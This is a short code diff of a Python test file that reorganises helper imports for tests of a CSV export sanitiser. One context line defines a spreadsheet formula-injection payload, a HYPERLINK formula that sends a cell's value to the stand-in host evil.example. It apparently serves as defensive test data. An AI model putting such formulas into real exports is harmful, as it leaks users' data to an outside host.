@@ -17,9 +17,8 @@ import streamlit as st
 from cli import main as cli_main
 from data import users as user_store
 from data.export import FORMULA_START, csv_bytes, neutralise_formulas
-from tests.playbooks.helpers import build_workspace
-from tests.security.apptest_helpers import restore_main_module  # noqa: F401 - autouse fixture
-from tests.views.conftest import run_app
+from tests.support.apptest import run_app
+from tests.support.workspaces import build_workspace
 
 EVIL = {
     "A0001": '=HYPERLINK("http://evil.example/?leak="&A1,"Invoice")',
